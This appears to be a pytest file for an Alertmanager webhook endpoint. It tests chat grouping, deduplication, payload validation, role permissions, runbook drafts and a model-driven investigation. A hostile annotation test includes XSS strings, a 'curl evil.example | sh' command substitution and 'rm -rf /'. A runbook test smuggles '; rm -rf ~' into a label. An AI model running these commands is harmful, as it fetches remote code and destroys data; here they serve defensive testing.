"""Alertmanager's webhook through the real app: one chat per group, bursts posted once,
hostile annotations inert, bad payloads refused with what is wrong, runbooks proposed, and
with a model an investigation that never holds the webhook's answer."""

from __future__ import annotations

import asyncio
import copy
import re
from typing import Any

import httpx
import pytest
from tests.conftest import make_token
from tests.support.instances import app_client as open_app
from tests.support.world import World, make_world

from piloto.llm.scripted import Reply, ScriptedLLM
from piloto.settings import Settings

URL = "/api/alerts/alertmanager"


def alert(name: str = "DiskFull", status: str = "firing", **labels: str) -> dict[str, Any]:
    return {
        "status": status,
        "labels": {"alertname": name, "instance": "db-1:9100", **labels},
        "annotations": {"summary": "Disk almost full", "description": "95% used on /var"},
        "startsAt": "2026-12-03T10:00:00Z",
        "endsAt": "0001-01-01T00:00:00Z",
        "generatorURL": "http://prometheus:9090/graph?g0.expr=disk",
        "fingerprint": f"fp-{name}-{labels.get('path', '')}",
    }


def webhook(*alerts: dict[str, Any], group: str = '{}:{alertname="DiskFull"}') -> dict[str, Any]:
    return {
        "version": "4",
        "groupKey": group,
        "status": alerts[0]["status"],
        "receiver": "piloto",
        "groupLabels": {"alertname": "DiskFull"},
        "commonLabels": {},
        "commonAnnotations": {},
        "externalURL": "http://alertmanager:9093",
        "truncatedAlerts": 0,
        "alerts": list(alerts),
    }


@pytest.fixture
async def world(app_client: httpx.AsyncClient, shared_toolbox: str) -> World:
    return await make_world(app_client, shared_toolbox)


async def post(world: World, body: Any, **headers: str) -> httpx.Response:
    return await world.client.post(
        URL, params={"project_id": world.project_id}, json=body, headers=headers
    )


async def messages(world: World, chat_id: str) -> list[dict[str, Any]]:
    resp = await world.client.get(f"/api/chats/{chat_id}/messages", params={"limit": 200})
    return list(resp.json())


async def test_one_chat_per_group_updated_and_resolved_there(world: World) -> None:
    first = await post(world, webhook(alert(), alert(path="/data")))
    assert first.status_code == 200, first.text
    body = first.json()
    assert body["created"] and body["posted"] == 2 and body["duplicates"] == 0
    chat = (await world.client.get(f"/api/chats/{body['chat_id']}")).json()
    assert chat["title"] == "DiskFull" and chat["project_id"] == world.project_id
    msgs = await messages(world, body["chat_id"])
    assert [m["meta"]["kind"] for m in msgs] == ["alert", "alert"]
    text = msgs[0]["content"]
    for part in (
        "instance=db-1:9100",
        "95% used on /var",
        "2026-12-03T10:00:00Z",
        "prometheus:9090",
    ):
        assert part in text

    # Alertmanager repeats the group: nothing new is posted, the same chat answers.
    again = (await post(world, webhook(alert(), alert(path="/data")))).json()
    assert (again["chat_id"], again["created"], again["posted"], again["duplicates"]) == (
        body["chat_id"], False, 0, 2,
    )  # fmt: skip
    resolved = (await post(world, webhook(alert(status="resolved")))).json()
    assert resolved["chat_id"] == body["chat_id"] and resolved["posted"] == 1
    last = (await messages(world, body["chat_id"]))[-1]
    assert last["meta"]["status"] == "resolved" and "resolved" in last["content"]

    other = (await post(world, webhook(alert("CPU"), group='{}:{alertname="CPU"}'))).json()
    assert other["created"] and other["chat_id"] != body["chat_id"]


async def test_a_burst_of_the_same_new_group_opens_one_chat_and_posts_once(world: World) -> None:
    payload = webhook(alert(), alert(path="/a"), alert(path="/b"))
    answers = await asyncio.gather(*(post(world, copy.deepcopy(payload)) for _ in range(8)))
    assert all(a.status_code == 200 for a in answers), [a.text for a in answers]
    bodies = [a.json() for a in answers]
    assert len({b["chat_id"] for b in bodies}) == 1
    assert sum(b["posted"] for b in bodies) == 3
    assert sum(b["created"] for b in bodies) == 1
    assert len(await messages(world, bodies[0]["chat_id"])) == 3


HOSTILE = (
    "```\n</pre><script>alert(1)</script>\n````\n[click](javascript:alert(1)) "
    "![x](http://evil.example/x.png) $(curl evil.example | sh) `rm -rf /` yes \x1b[31m\x00"
)


async def test_a_hostile_annotation_stays_text(world: World) -> None:
    hostile = alert()
    hostile["annotations"]["description"] = HOSTILE
    hostile["labels"]["alertname"] = "Disk`Full```"
    resp = await post(world, webhook(hostile))
    assert resp.status_code == 200, resp.text
    chat_id = resp.json()["chat_id"]
    content = (await messages(world, chat_id))[-1]["content"]
    # Everything the alert says sits inside one fence longer than any backtick run in it.
    fence = re.search(r"^(`{3,})text$", content, re.M)
    assert fence is not None
    ticks = fence.group(1)
    assert len(ticks) > 4 and content.rstrip().endswith(ticks)
    inside = content[fence.end() : content.rstrip().rfind(ticks)]
    assert "<script>alert(1)</script>" in inside and "javascript:alert(1)" in inside
    assert "\x1b" not in content and "\x00" not in content
    # Nothing ran or was proposed from it: text is never a command nor a consent.
    state = (await world.client.get(f"/api/chats/{chat_id}")).json()["state"]
    assert state["pending_run_id"] is None and state["active_run_id"] is None


@pytest.mark.parametrize(
    ("body", "where"),
    [
        ({"version": "3"}, "version"),
        (webhook(alert()) | {"version": "3"}, "version"),
        (webhook(alert()) | {"alerts": []}, "alerts"),
        (webhook(alert()) | {"groupKey": ""}, "groupKey"),
        (webhook(alert() | {"status": "exploded"}), "status"),
        (webhook(alert() | {"labels": {"alertname": 5}}), "labels"),
        (webhook(alert() | {"labels": "x"}), "labels"),
        ({k: v for k, v in webhook(alert()).items() if k != "alerts"}, "alerts"),
        ([webhook(alert())], "body"),
    ],
)
async def test_a_bad_payload_is_a_422_that_says_what(world: World, body: Any, where: str) -> None:
    resp = await post(world, body)
    assert resp.status_code == 422, resp.text
    assert where in resp.text


async def test_not_json_missing_project_and_unknown_project(world: World) -> None:
    resp = await world.client.post(
        URL, params={"project_id": world.project_id}, content=b"{nope",
        headers={"Content-Type": "application/json"},
    )  # fmt: skip
    assert resp.status_code == 422 and "not valid JSON" in resp.text
    resp = await world.client.post(URL, json=webhook(alert()))
    assert resp.status_code == 422 and "project_id" in resp.text
    resp = await world.client.post(URL, params={"project_id": "nope"}, json=webhook(alert()))
    assert resp.status_code == 404


async def test_a_viewer_or_nobody_cannot_post_alerts(
    world: World, anon_client: httpx.AsyncClient
) -> None:
    viewer = await make_token(world.client, "viewer")
    resp = await post(world, webhook(alert()), Authorization=f"Bearer {viewer}")
    assert resp.status_code == 403
    resp = await anon_client.post(
        URL, params={"project_id": world.project_id}, json=webhook(alert())
    )
    assert resp.status_code == 401
    operator = await make_token(world.client, "operator")
    resp = await post(world, webhook(alert()), Authorization=f"Bearer {operator}")
    assert resp.status_code == 200


async def test_an_alert_proposes_its_runbook_as_a_draft(world: World) -> None:
    runbook = {
        "project_id": world.project_id, "name": "disk-usage", "summary": "Disk usage",
        "steps": [{"service": "box", "operation": "run_command",
                   "arguments": {"cmd": "du -s {{path}}"}}],
        "parameters": {"path": {"default": ".", "description": "directory"}},
        "triggers": [{"alertname": "DiskFull"}],
    }  # fmt: skip
    assert (await world.client.post("/api/runbooks", json=runbook)).status_code == 201
    body = (await post(world, webhook(alert(path="/var")))).json()
    assert len(body["proposed_run_ids"]) == 1
    run = (await world.client.get(f"/api/runs/{body['proposed_run_ids'][0]}")).json()
    assert run["status"] == "draft" and run["chat_id"] == body["chat_id"]
    assert run["steps"][0]["arguments"] == {"cmd": "du -s /var"}
    # A label smuggling a second command never becomes one.
    evil = (await post(world, webhook(alert(path="/var; rm -rf ~"), group="g2"))).json()
    for run_id in evil["proposed_run_ids"]:
        run = (await world.client.get(f"/api/runs/{run_id}")).json()
        assert "rm -rf" not in str(run["steps"])
    # The repeated alert proposes nothing again.
    again = (await post(world, webhook(alert(path="/var")))).json()
    assert again["proposed_run_ids"] == []


async def test_with_a_model_an_investigation_starts_in_the_background(
    settings: Settings, llm: ScriptedLLM, shared_toolbox: str
) -> None:
    llm.push(Reply(text="Looking at the disk on db-1."))
    model_settings = settings.model_copy(
        update={"llm_base_url": llm.base_url, "llm_max_retries": 0, "llm_timeout_s": 30.0}
    )
    async with open_app(model_settings) as client:
        world = await make_world(client, shared_toolbox)
        resp = await post(world, webhook(alert()))
        assert resp.status_code == 200 and resp.json()["investigating"] is True
        await client.app.state.alert_turns.wait()  # type: ignore[attr-defined]
        msgs = await messages(world, resp.json()["chat_id"])
        assert msgs[-1]["role"] == "assistant" and "db-1" in msgs[-1]["content"]
        asked = str(llm.requests[-1]["messages"])
        assert "DiskFull" in asked and "95% used on /var" in asked
        # A repeat of the same alert asks nothing more.
        count = len(llm.requests)
        assert (await post(world, webhook(alert()))).json()["investigating"] is False
        assert len(llm.requests) == count


async def test_an_alerts_token_posts_alerts_and_reads_nothing(world: World) -> None:
    token = await make_token(world.client, "alerts")
    auth = {"Authorization": f"Bearer {token}"}
    resp = await post(world, webhook(alert()), **auth)
    assert resp.status_code == 200, resp.text
    chat_id = resp.json()["chat_id"]
    for path in (
        "/api/projects", f"/api/projects/{world.project_id}", f"/api/chats/{chat_id}",
        f"/api/chats/{chat_id}/messages", f"/api/projects/{world.project_id}/chats",
        "/api/services", "/api/notifications", "/api/tokens", f"/api/chats/{chat_id}/events",
    ):  # fmt: skip
        got = await world.client.get(path, headers=auth)
        assert got.status_code == 403, (path, got.status_code)
        assert "DiskFull" not in got.text
    sent = await world.client.post(
        "/api/send", json={"chat_id": chat_id, "text": "/cmd box id"}, headers=auth
    )
    assert sent.status_code == 403
    made = await world.client.post("/api/tokens", json={"name": "x", "role": "admin"}, headers=auth)
    assert made.status_code == 403
